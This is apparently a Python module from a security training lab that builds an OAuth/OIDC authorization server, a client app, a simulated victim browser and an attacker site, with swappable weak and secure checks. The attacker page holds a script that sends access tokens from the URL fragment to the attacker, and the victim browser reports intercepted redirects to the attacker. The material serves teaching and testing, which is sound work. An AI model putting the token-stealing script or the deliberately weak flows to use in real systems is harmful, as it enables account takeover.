"""04-oauth: an authorization server and its client web app, each on its own origin.

``create_app`` returns the authorization server (the lab's main URL); the client web app and
the attacker's site are companions served in their own sandboxes, so every redirect between
them is real HTTP between two origins.

Authorization server (CURRICULUM): ``GET /authorize`` (a bad ``client_id`` or
``redirect_uri`` gets a 400 error page, never a redirect — RFC 6749 §4.1.2.1), ``POST /token``
(form-encoded, errors as RFC 6749 §5.2), ``GET /userinfo``, ``GET
/.well-known/openid-configuration``, ``GET /jwks.json``; the resource owner logs in with
``POST /session`` (the form ``/authorize`` shows) or HTTP Basic on ``/authorize``; consent is
implied (a first-party client). Client web app: ``GET /login``, ``GET /callback``, ``GET /me``.
Registered clients: ``webapp`` (the client web app, a public client: no secret) and
``evil-app`` (the attacker's own registration, redirect URI on the attacker's site).

Lab-only routes on the server: ``POST /api/_lab/victim/click`` (alice's browser, already
logged in at the server, follows a link you send her), ``GET /api/_lab/log`` (what the server
issued: codes and grants, hashed), ``GET /api/_lab/clients``, ``POST /api/_lab/accounts``,
``POST /api/_lab/age-code`` (the lab's clock). The attacker's site records every request
(``GET /api/_lab/captured``).

Replaceable parts: server — ``validate_redirect_uri``, ``verify_pkce``, ``redeem_code``,
``flow_allowed``; client — ``check_state``, ``check_nonce``.
"""

from __future__ import annotations

import base64
import hashlib
import html
import json
import secrets
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qsl, urlencode, urljoin, urlsplit, urlunsplit

import httpx
from authlib.oauth2.rfc6749.parameters import prepare_grant_uri, prepare_token_request
from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse, JSONResponse, RedirectResponse, Response
from pydantic import BaseModel, Field
from starlette.concurrency import run_in_threadpool

from labkit.patterns import oauth as secure_oauth
from labkit.patterns import passwords as secure_passwords
from labkit.sandbox.apps.base import LabState, new_lab_app
from labkit.sandbox.apps.pages import add_docs
from labkit.sandbox.fixes import FixSlot, install_fault_handler, plug_fixes
from labkit.sandbox.store import LabStore
from labkit.vulnerable import oauth as weak_oauth

__all__ = ["ATTACKER", "CLIENT_ID", "EVIL_CLIENT_ID", "SCOPE", "SLOTS", "VICTIM", "create_app"]

CLIENT_ID = "webapp"
EVIL_CLIENT_ID = "evil-app"
SCOPE = "openid email"
VICTIM = "alice@example.com"
ATTACKER = "carol@example.com"
AS_COOKIE = "as_session"
CLIENT_COOKIE = "client_session"
MAX_HOPS = 12
FLOWS = {"code": "authorization_code", "token": "implicit"}

SLOTS = {
    "validate_redirect_uri": FixSlot(
        "validate_redirect_uri",
        bool,
        "validate_redirect_uri(registered: str, requested: str) -> bool",
    ),
    "verify_pkce": FixSlot(
        "verify_pkce",
        bool,
        "verify_pkce(verifier: str | None, challenge: str | None, method: str | None) -> bool",
    ),
    "redeem_code": FixSlot(
        "redeem_code",
        (dict, type(None)),
        "redeem_code(codes, code: str, client_id: str, redirect_uri: str | None) -> dict | None",
    ),
    "flow_allowed": FixSlot("flow_allowed", bool, "flow_allowed(flow: str) -> bool"),
    "check_state": FixSlot(
        "check_state", bool, "check_state(expected: str | None, returned: str | None) -> bool"
    ),
    "check_nonce": FixSlot(
        "check_nonce", bool, "check_nonce(expected: str | None, claims: dict) -> bool"
    ),
}
_PART_NAMES = tuple(SLOTS)


def _parts(secure: bool, fixes: dict[str, Any]) -> dict[str, Callable[..., Any]]:
    source = secure_oauth if secure else weak_oauth
    return plug_fixes(SLOTS, {name: getattr(source, name) for name in _PART_NAMES}, fixes)


def _sha(value: str) -> str:
    return hashlib.sha256(value.encode()).hexdigest()[:16]


def _with_params(uri: str, params: dict[str, str | None], *, fragment: bool = False) -> str:
    """``uri`` with ``params`` added to its query (RFC 6749 §3.1.2: keep the existing query)
    or, for the implicit grant, put in its fragment (RFC 6749 §4.2.2)."""
    parts = urlsplit(uri)
    extra = urlencode({k: v for k, v in params.items() if v is not None})
    if fragment:
        return urlunsplit(parts._replace(fragment=extra))
    query = f"{parts.query}&{extra}" if parts.query else extra
    return urlunsplit(parts._replace(query=query))


def _page(title: str, body: str, status: int = 200) -> HTMLResponse:
    return HTMLResponse(
        f"<!doctype html><title>{html.escape(title)}</title><h1>{html.escape(title)}</h1>{body}",
        status_code=status,
        headers={"Cache-Control": "no-store"},
    )


async def _body_params(request: Request) -> dict[str, str]:
    """Form-encoded (RFC 6749 §3.2) or JSON body as a flat dict of strings."""
    raw = (await request.body()).decode("utf-8", "replace")
    if request.headers.get("content-type", "").startswith("application/json"):
        try:
            data = json.loads(raw or "{}")
        except ValueError:
            return {}
        return {str(k): str(v) for k, v in data.items()} if isinstance(data, dict) else {}
    return dict(parse_qsl(raw, keep_blank_values=True))


# -- the authorization server ---------------------------------------------------------------
@dataclass
class Registration:
    client_id: str
    redirect_uris: list[str]
    secret: str | None = None  # None: a public client (RFC 6749 §2.1)


@dataclass
class Grant:
    """What one token response issued (the access token itself is the key of the table)."""

    user: str
    client_id: str
    grant_type: str
    pkce: str
    code: str | None
    scope: str
    expires_at: float
    revoked: bool = False


@dataclass
class AuthorizationServer:
    """The server's tables and the decisions that are not learner slots."""

    state: LabState
    store: LabStore
    secure: bool
    key: secure_oauth.SigningKey = field(default_factory=secure_oauth.SigningKey)
    clients: dict[str, Registration] = field(default_factory=dict)
    sessions: dict[str, str] = field(default_factory=dict)
    grants: dict[str, Grant] = field(default_factory=dict)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def __post_init__(self) -> None:
        self.codes = secure_oauth.CodeStore(on_reuse=self.revoke_code)

    @property
    def issuer(self) -> str:
        return self.state.urls.get("main", "")

    def check_password(self, email: str, password: str) -> str | None:
        user = self.store.find_user(email)
        stored = user.password_hash if user else secure_passwords.dummy_hash()
        ok = secure_passwords.verify_password(password, stored)
        return user.email if user is not None and ok else None

    def resource_owner(self, request: Request) -> str | None:
        """The logged-in user: the server's session cookie, or HTTP Basic credentials."""
        email = self.sessions.get(request.cookies.get(AS_COOKIE, ""))
        if email is not None:
            return email
        scheme, _, value = request.headers.get("authorization", "").partition(" ")
        if scheme.lower() != "basic":
            return None
        try:
            username, _, password = base64.b64decode(value).decode().partition(":")
        except ValueError:
            return None
        return self.check_password(username, password)

    def revoke_code(self, code: str) -> None:
        """RFC 6749 §4.1.2: a reused code SHOULD revoke every token issued from it."""
        with self.lock:
            for grant in self.grants.values():
                if grant.code == code:
                    grant.revoked = True

    def issue_tokens(
        self,
        user: str,
        client_id: str,
        *,
        grant_type: str,
        scope: str,
        pkce: str = "none",
        code: str | None = None,
        nonce: str | None = None,
    ) -> dict[str, Any]:
        access = secrets.token_urlsafe(32)
        now = time.time()
        with self.lock:
            self.grants[access] = Grant(
                user,
                client_id,
                grant_type,
                pkce,
                code,
                scope,
                now + secure_oauth.ACCESS_TOKEN_TTL_S,
            )
        body: dict[str, Any] = {
            "access_token": access,
            "token_type": "Bearer",
            "expires_in": secure_oauth.ACCESS_TOKEN_TTL_S,
            "scope": scope,
        }
        record = self.store.find_user(user)
        if "openid" in scope.split() and record is not None:
            claims: dict[str, Any] = {
                "iss": self.issuer,
                "sub": str(record.id),
                "aud": client_id,
                "iat": int(now),
                "exp": int(now) + secure_oauth.ID_TOKEN_TTL_S,
                "email": record.email,
            }
            if nonce:
                claims["nonce"] = nonce
            body["id_token"] = self.key.sign(claims)
        return body

    def grant_for(self, access_token: str) -> Grant | None:
        grant = self.grants.get(access_token)
        if grant is None or grant.revoked or grant.expires_at < time.time():
            return None
        return grant

    def log(self) -> dict[str, list[dict[str, Any]]]:
        """What the server's database would show: codes and grants, secrets hashed."""
        with self.lock:
            grants = list(self.grants.items())
        redemptions: dict[str, int] = {}
        for _, grant in grants:
            if grant.code:
                redemptions[grant.code] = redemptions.get(grant.code, 0) + 1
        codes = [
            {
                "code_sha256": _sha(code),
                "user": record.get("user"),
                "client_id": record.get("client_id"),
                "redirect_uri": record.get("redirect_uri"),
                "code_challenge_method": record.get("code_challenge_method"),
                "redemptions": redemptions.get(code, 0),
            }
            for code, record in self.codes.records().items()
        ]
        issued = [
            {
                "token_sha256": _sha(token),
                "user": g.user,
                "client_id": g.client_id,
                "grant_type": g.grant_type,
                "pkce": g.pkce,
                "code_sha256": _sha(g.code) if g.code else None,
                "code_client_id": (self.codes.get(g.code) or {}).get("client_id")
                if g.code
                else None,
                "revoked": g.revoked,
            }
            for token, g in grants
        ]
        return {"codes": codes, "grants": issued}


def _oauth_error(error: str, description: str, status: int = 400) -> JSONResponse:
    """RFC 6749 §5.2 error response."""
    return JSONResponse(
        {"error": error, "error_description": description},
        status_code=status,
        headers={"Cache-Control": "no-store"},
    )


def _login_form(next_url: str) -> HTMLResponse:
    return _page(
        "Sign in to the authorization server",
        "<form method='post' action='session'>"  # relative: works under a proxy prefix
        f"<input type='hidden' name='next' value='{html.escape(next_url)}'>"
        "<label>Email <input name='email' type='email'></label> "
        "<label>Password <input name='password' type='password'></label> "
        "<button>Sign in</button></form>",
    )


def _add_server_routes(app: FastAPI, server: AuthorizationServer, parts: dict[str, Any]) -> None:
    secure = server.secure

    @app.get("/authorize", response_model=None)
    def authorize(request: Request) -> Response:
        query = request.query_params
        client = server.clients.get(query.get("client_id", ""))
        if client is None:
            return _page(
                "Unknown client", "<p>No client is registered with that client_id.</p>", 400
            )
        requested = query.get("redirect_uri", "")
        if not requested or not any(
            parts["validate_redirect_uri"](registered, requested)
            for registered in client.redirect_uris
        ):
            # RFC 6749 §4.1.2.1: tell the user, never redirect to an unverified URI
            return _page(
                "Invalid redirect_uri",
                "<p>The redirect_uri is not registered for this client. Not redirecting.</p>",
                400,
            )
        state = query.get("state")

        def fail(error: str, description: str) -> RedirectResponse:
            params = {"error": error, "error_description": description, "state": state}
            return RedirectResponse(_with_params(requested, params), status_code=302)

        response_type = query.get("response_type", "")
        flow = FLOWS.get(response_type)
        if flow is None or not parts["flow_allowed"](flow):
            return fail("unsupported_response_type", f"response_type {response_type!r} refused")
        challenge, method = query.get("code_challenge"), query.get("code_challenge_method")
        if secure and flow == "authorization_code" and (not challenge or method != "S256"):
            # RFC 9700 §2.1.1 / RFC 7636 §4.4.1: PKCE is required, S256 only
            return fail(
                "invalid_request", "code_challenge with code_challenge_method=S256 required"
            )
        user = server.resource_owner(request)
        if user is None:
            return _login_form(str(request.url.path) + "?" + str(request.url.query))
        scope = query.get("scope", SCOPE)
        if flow == "implicit":
            body = server.issue_tokens(user, client.client_id, grant_type="implicit", scope=scope)
            params = {k: str(body[k]) for k in ("access_token", "token_type", "expires_in")}
            location = _with_params(requested, {**params, "state": state}, fragment=True)
            return RedirectResponse(location, status_code=302)
        code = server.codes.issue(
            {
                "client_id": client.client_id,
                "redirect_uri": requested,
                "user": user,
                "scope": scope,
                "nonce": query.get("nonce"),
                "code_challenge": challenge,
                "code_challenge_method": (method or "plain") if challenge else None,
            }
        )
        return RedirectResponse(_with_params(requested, {"code": code, "state": state}), 302)

    @app.post("/session", response_model=None)
    async def sign_in(request: Request) -> Response:
        form = await _body_params(request)
        email = await run_in_threadpool(
            server.check_password, form.get("email", ""), form.get("password", "")
        )
        if email is None:
            return JSONResponse({"error": "Invalid email or password"}, status_code=401)
        sid = secrets.token_urlsafe(32)
        server.sessions[sid] = email
        next_url = form.get("next", "")
        # only back into /authorize on this server: no open redirect from the login form
        if next_url.startswith("/authorize?"):
            response: Response = RedirectResponse(next_url, status_code=303)
        else:
            response = JSONResponse({"email": email})
        response.set_cookie(AS_COOKIE, sid, httponly=True, samesite="lax", path="/")
        return response

    def authenticate_client(
        form: dict[str, str], authorization: str
    ) -> tuple[Registration | None, JSONResponse | None]:
        """RFC 6749 §2.3.1: HTTP Basic or client_secret_post; a public client sends its id."""
        client_id, secret = form.get("client_id", ""), form.get("client_secret")
        scheme, _, value = authorization.partition(" ")
        if scheme.lower() == "basic":
            try:
                client_id, _, secret = base64.b64decode(value).decode().partition(":")
            except ValueError:
                return None, _oauth_error("invalid_client", "malformed Basic credentials", 401)
        client = server.clients.get(client_id)
        if client is None:
            return None, _oauth_error("invalid_client", "unknown client", 401)
        if client.secret is not None and not (
            secret and secrets.compare_digest(secret.encode(), client.secret.encode())
        ):
            return None, _oauth_error("invalid_client", "client authentication failed", 401)
        return client, None

    def token_endpoint(form: dict[str, str], authorization: str) -> JSONResponse:
        client, error = authenticate_client(form, authorization)
        if client is None:
            return error or _oauth_error("invalid_client", "client authentication failed", 401)
        grant_type = form.get("grant_type", "")
        headers = {"Cache-Control": "no-store", "Pragma": "no-cache"}  # RFC 6749 §5.1
        if grant_type == "authorization_code" and parts["flow_allowed"]("authorization_code"):
            code = form.get("code", "")
            record = parts["redeem_code"](
                server.codes, code, client.client_id, form.get("redirect_uri")
            )
            if not isinstance(record, dict) or not record.get("user"):
                return _oauth_error("invalid_grant", "invalid, expired or already used code")
            verifier = form.get("code_verifier")
            challenge, method = record.get("code_challenge"), record.get("code_challenge_method")
            if not parts["verify_pkce"](verifier, challenge, method):
                return _oauth_error("invalid_grant", "PKCE verification failed")
            body = server.issue_tokens(
                str(record["user"]),
                client.client_id,
                grant_type="authorization_code",
                scope=str(record.get("scope") or SCOPE),
                pkce=(method or "none") if verifier and challenge else "none",
                code=code,
                nonce=record.get("nonce"),
            )
            return JSONResponse(body, headers=headers)
        if grant_type == "password" and parts["flow_allowed"]("password"):
            user = server.check_password(form.get("username", ""), form.get("password", ""))
            if user is None:
                return _oauth_error("invalid_grant", "invalid resource owner credentials")
            body = server.issue_tokens(
                user, client.client_id, grant_type="password", scope=form.get("scope", SCOPE)
            )
            return JSONResponse(body, headers=headers)
        return _oauth_error("unsupported_grant_type", f"grant_type {grant_type!r} refused")

    @app.post("/token", response_model=None)
    async def token(request: Request) -> JSONResponse:
        form = await _body_params(request)
        authorization = request.headers.get("authorization", "")
        return await run_in_threadpool(token_endpoint, form, authorization)

    @app.get("/userinfo", response_model=None)
    def userinfo(request: Request) -> JSONResponse:
        scheme, _, access = request.headers.get("authorization", "").partition(" ")
        grant = server.grant_for(access) if scheme.lower() == "bearer" else None
        record = server.store.find_user(grant.user) if grant else None
        if grant is None or record is None:
            return JSONResponse(
                {"error": "invalid_token"},
                status_code=401,
                headers={"WWW-Authenticate": 'Bearer error="invalid_token"'},  # RFC 6750 §3
            )
        return JSONResponse(
            {"sub": str(record.id), "email": record.email, "role": record.role,
             "client_id": grant.client_id}
        )  # fmt: skip

    @app.get("/.well-known/openid-configuration")
    def discovery() -> dict[str, Any]:
        issuer = server.issuer
        return {
            "issuer": issuer,
            "authorization_endpoint": f"{issuer}/authorize",
            "token_endpoint": f"{issuer}/token",
            "userinfo_endpoint": f"{issuer}/userinfo",
            "jwks_uri": f"{issuer}/jwks.json",
            "response_types_supported": ["code"] if secure else ["code", "token"],
            "grant_types_supported": ["authorization_code"]
            if secure
            else ["authorization_code", "implicit", "password"],
            "code_challenge_methods_supported": ["S256"] if secure else ["plain", "S256"],
            "subject_types_supported": ["public"],
            "id_token_signing_alg_values_supported": [secure_oauth.ID_TOKEN_ALG],
            "scopes_supported": ["openid", "email"],
            "token_endpoint_auth_methods_supported": [
                "none",
                "client_secret_basic",
                "client_secret_post",
            ],
        }

    @app.get("/jwks.json")
    def jwks() -> dict[str, Any]:
        return server.key.jwks()


# -- lab-only routes: the victim's browser, the log, the clock ------------------------------
class Account(BaseModel):
    email: str
    password: str


class AgeCode(BaseModel):
    code: str
    # a year at most, finite (a NaN age made a code that never expires) (#14)
    seconds: float = Field(
        default=secure_oauth.CODE_TTL_S + 60, ge=0, le=366 * 24 * 3600, allow_inf_nan=False
    )


class Click(BaseModel):
    url: str
    intercept: str | None = None
    fresh: bool = False


class VictimBrowser:
    """Alice's browser: logged in at the authorization server, follows any link she is sent.

    It stays inside the lab (only the lab's own origins are visited). ``intercept`` is a URL
    prefix a malicious app on her device has claimed (RFC 7636 §1, RFC 8252 §8.1): a redirect
    there is handed to the attacker instead of followed.
    """

    def __init__(self, state: LabState, email: str) -> None:
        self.state, self.email = state, email
        self._http: httpx.Client | None = None
        self._lock = threading.Lock()

    def _browser(self, fresh: bool) -> httpx.Client:
        if fresh or self._http is None:
            if self._http is not None:
                self._http.close()
            self._http = httpx.Client(follow_redirects=False, trust_env=False, timeout=30.0)
            password = self.state.users[self.email].password
            self._http.post(
                self.state.urls["main"] + "/session",
                json={"email": self.email, "password": password},
            )
        return self._http

    def _inside(self, url: str) -> bool:
        parts = urlsplit(url)
        try:
            origin = f"{parts.scheme}://{parts.hostname}:{parts.port}"
        except ValueError:
            return False
        return origin in self.state.urls.values()

    def click(self, url: str, intercept: str | None, fresh: bool) -> dict[str, Any]:
        with self._lock:
            http = self._browser(fresh)
            history: list[dict[str, Any]] = []
            intercepted = None
            current = url
            for _ in range(MAX_HOPS):
                if not self._inside(current):
                    history.append({"url": current, "status": None, "note": "left the lab"})
                    break
                try:
                    response = http.get(current)
                except httpx.HTTPError as exc:
                    history.append({"url": current, "status": None, "note": str(exc)})
                    break
                location = response.headers.get("location")
                history.append(
                    {"url": current, "status": response.status_code, "location": location}
                )
                if not (response.is_redirect and location):
                    body = response.text[:4000]
                    return {"history": history, "final": {"url": current,
                            "status": response.status_code, "body": body},
                            "intercepted": intercepted}  # fmt: skip
                current = urljoin(current, location)
                if intercept and current.startswith(intercept):
                    intercepted = current
                    attacker = self.state.urls.get("attacker")
                    if attacker:  # the malicious app reports home
                        http.get(attacker + "/intercepted", params={"url": current})
                    break
            return {"history": history, "final": None, "intercepted": intercepted}

    def close(self) -> None:
        if self._http is not None:
            self._http.close()


def _add_lab_routes(app: FastAPI, server: AuthorizationServer, victim: VictimBrowser) -> None:
    @app.post("/api/_lab/victim/click", include_in_schema=False)
    def victim_click(body: Click) -> dict[str, Any]:
        return victim.click(body.url, body.intercept, body.fresh)

    @app.get("/api/_lab/log", include_in_schema=False)
    def log() -> dict[str, Any]:
        return server.log()

    @app.get("/api/_lab/clients", include_in_schema=False)
    def clients() -> dict[str, Any]:
        return {
            c.client_id: {
                "redirect_uris": c.redirect_uris,
                "public": c.secret is None,
                # the attacker registered evil-app: its secret is the attacker's to know
                **({"client_secret": c.secret} if c.client_id == EVIL_CLIENT_ID else {}),
            }
            for c in server.clients.values()
        }

    @app.post("/api/_lab/accounts", status_code=201, include_in_schema=False, response_model=None)
    def account(body: Account) -> Any:
        if server.store.find_user(body.email) is not None:
            return JSONResponse({"errors": ["Email already registered"]}, status_code=400)
        server.store.add_user(body.email, "viewer", secure_passwords.hash_password(body.password))
        return {"email": body.email}

    @app.post("/api/_lab/age-code", include_in_schema=False)
    def age_code(body: AgeCode) -> dict[str, bool]:
        return {"aged": server.codes.age(body.code, body.seconds)}


# -- the client web app ---------------------------------------------------------------------
class WebClient:
    """The client web app: server-side sessions, the code flow, an ID token per login."""

    def __init__(self, state: LabState, secure: bool, parts: dict[str, Any]) -> None:
        self.state, self.secure, self.parts = state, secure, parts
        self.sessions: dict[str, dict[str, Any]] = {}
        self._jwks: dict[str, Any] | None = None
        self.http = httpx.Client(trust_env=False, timeout=30.0)

    @property
    def server_url(self) -> str:
        return self.state.urls["main"]

    @property
    def redirect_uri(self) -> str:
        return self.state.urls["client"] + "/callback"

    def jwks(self) -> dict[str, Any]:
        if self._jwks is None:
            self._jwks = self.http.get(self.server_url + "/jwks.json").json()
        return self._jwks

    def start_login(self, session: dict[str, Any]) -> str:
        """The authorization request: state, nonce and an S256 PKCE challenge per login."""
        verifier, challenge = secure_oauth.new_pkce_pair()
        state, nonce = secure_oauth.new_state(), secure_oauth.new_state()
        session["pending"] = {"state": state, "nonce": nonce, "verifier": verifier}
        return prepare_grant_uri(
            self.server_url + "/authorize",
            client_id=CLIENT_ID,
            response_type="code",
            redirect_uri=self.redirect_uri,
            scope=SCOPE,
            state=state,
            code_challenge=challenge,
            code_challenge_method="S256",
            nonce=nonce,
        )

    def exchange(self, code: str, verifier: str | None) -> dict[str, Any]:
        """Redeem ``code`` at the token endpoint (RFC 6749 §4.1.3); raises OAuthError."""
        body = prepare_token_request(
            "authorization_code",
            code=code,
            redirect_uri=self.redirect_uri,
            client_id=CLIENT_ID,
            code_verifier=verifier,
        )
        response = self.http.post(
            self.server_url + "/token",
            content=body,
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        if response.status_code != 200:
            raise secure_oauth.OAuthError(f"token request refused: {response.text[:200]}")
        tokens = response.json()
        if "id_token" not in tokens:
            raise secure_oauth.OAuthError("no ID token in the token response")
        return tokens

    def claims(self, id_token: str) -> dict[str, Any]:
        return secure_oauth.verify_id_token(
            id_token, self.jwks(), issuer=self.server_url, audience=CLIENT_ID
        )

    def callback(self, params: dict[str, str], pending: dict[str, Any]) -> dict[str, Any]:
        """The logged-in user for this callback; raises OAuthError with the reason."""
        if "error" in params:
            raise secure_oauth.OAuthError(f"authorization failed: {params['error']}")
        # state first: an unsolicited callback is dropped before its code is redeemed
        if not self.parts["check_state"](pending.get("state"), params.get("state")):
            raise secure_oauth.OAuthError("state does not match this session's login")
        access = None
        if "id_token" in params:
            if self.secure:  # OIDC front-channel responses are not part of this client
                raise secure_oauth.OAuthError("ID tokens are only accepted from /token")
            claims = self.claims(params["id_token"])
        elif "code" in params:
            tokens = self.exchange(params["code"], pending.get("verifier"))
            claims, access = self.claims(tokens["id_token"]), tokens.get("access_token")
        else:
            raise secure_oauth.OAuthError("no code in the callback")
        if not self.parts["check_nonce"](pending.get("nonce"), claims):
            raise secure_oauth.OAuthError("nonce does not match this session's login")
        return {"email": claims.get("email"), "sub": claims.get("sub"), "access_token": access}


def _client_app(client: WebClient) -> FastAPI:
    app = FastAPI(title="04-oauth client web app", version="labkit", docs_url=None, redoc_url=None)
    add_docs(app)  # offline, relative (not FastAPI's CDN page)
    install_fault_handler(app)  # the learner's check_state / check_nonce run here

    def session_of(request: Request) -> tuple[str, dict[str, Any]]:
        sid = request.cookies.get(CLIENT_COOKIE, "")
        if sid not in client.sessions:
            sid = secrets.token_urlsafe(32)
            client.sessions[sid] = {}
        return sid, client.sessions[sid]

    def with_cookie(response: Response, sid: str) -> Response:
        response.set_cookie(CLIENT_COOKIE, sid, httponly=True, samesite="lax", path="/")
        return response

    @app.get("/", response_class=HTMLResponse)
    def home() -> HTMLResponse:
        return _page("The client web app", "<p><a href='login'>Log in with the server</a></p>")

    @app.get("/login", response_model=None)
    def login(request: Request) -> Response:
        sid, session = session_of(request)
        return with_cookie(RedirectResponse(client.start_login(session), status_code=302), sid)

    @app.get("/callback", response_model=None)
    def callback(request: Request) -> Response:
        sid, session = session_of(request)
        pending = session.pop("pending", None) or {}  # one callback per login: single use
        try:
            user = client.callback(dict(request.query_params), pending)
        except secure_oauth.OAuthError as exc:
            return JSONResponse({"errors": [str(exc)]}, status_code=400)
        client.sessions.pop(sid, None)  # a new session id at login (no session fixation)
        sid = secrets.token_urlsafe(32)
        client.sessions[sid] = {"user": user}
        return with_cookie(RedirectResponse("/me", status_code=303), sid)

    @app.get("/me", response_model=None)
    def me(request: Request) -> JSONResponse:
        user = client.sessions.get(request.cookies.get(CLIENT_COOKIE, ""), {}).get("user")
        if user is None:
            return JSONResponse({"error": "Not logged in"}, status_code=401)
        return JSONResponse({"email": user["email"], "sub": user["sub"]})

    return app


# -- the attacker's site --------------------------------------------------------------------
_ATTACKER_PAGE = (
    "<!doctype html><title>evil.example</title><p>Nothing to see here.</p>"
    # a token in the fragment never reaches a server, but it reaches the page's script
    "<script>if (location.hash) fetch('stolen?' + location.hash.slice(1));</script>"
)


def _attacker_app() -> FastAPI:
    app = FastAPI(
        title="04-oauth attacker's site (evil.example)",
        version="labkit",
        docs_url=None,
        redoc_url=None,
    )
    add_docs(app)  # before the catch-all page
    captured: list[dict[str, Any]] = []

    @app.get("/api/_lab/captured", include_in_schema=False)
    def log() -> list[dict[str, Any]]:
        return list(captured)

    @app.get("/{path:path}", response_class=HTMLResponse)
    def anything(path: str, request: Request) -> HTMLResponse:
        captured.append(
            {"path": "/" + path, "query": dict(request.query_params), "url": str(request.url)}
        )
        return HTMLResponse(_ATTACKER_PAGE)

    return app


# -- the lab --------------------------------------------------------------------------------
def create_app(secure: bool = False, **fixes: Any) -> Any:
    """The 04-oauth authorization server; the client web app and the attacker's site are
    its companions. ``secure=True`` is the reference, keyword fixes plug in yours."""
    parts = _parts(secure, fixes)
    store = LabStore("04-oauth")
    users = store.seed_staff(secure_passwords.hash_password)
    state = LabState(secure=secure, users=users, store=store)
    server = AuthorizationServer(state, store, secure)
    victim = VictimBrowser(state, VICTIM)
    client = WebClient(state, secure, parts)
    app = new_lab_app("04-oauth authorization server", secure=secure, state=state)
    _add_server_routes(app, server, parts)
    _add_lab_routes(app, server, victim)
    state.companions["client"] = _client_app(client)
    state.companions["attacker"] = _attacker_app()
    evil_secret = secrets.token_urlsafe(24)

    def started(urls: dict[str, str]) -> None:
        redirect = urls["client"] + "/callback"
        evil_redirect = urls["attacker"] + "/cb"
        server.clients[CLIENT_ID] = Registration(CLIENT_ID, [redirect])
        server.clients[EVIL_CLIENT_ID] = Registration(EVIL_CLIENT_ID, [evil_redirect], evil_secret)
        state.extras["client"] = f"{CLIENT_ID} {redirect}"
        state.extras["attacker"] = urls["attacker"]
        state.extras["evil_client"] = f"{EVIL_CLIENT_ID} {evil_secret} {evil_redirect}"
        state.extras["victim"] = f"{VICTIM} POST {urls['main']}/api/_lab/victim/click"

    state.on_started.append(started)
    state.on_close.extend([victim.close, client.http.close])
    return app
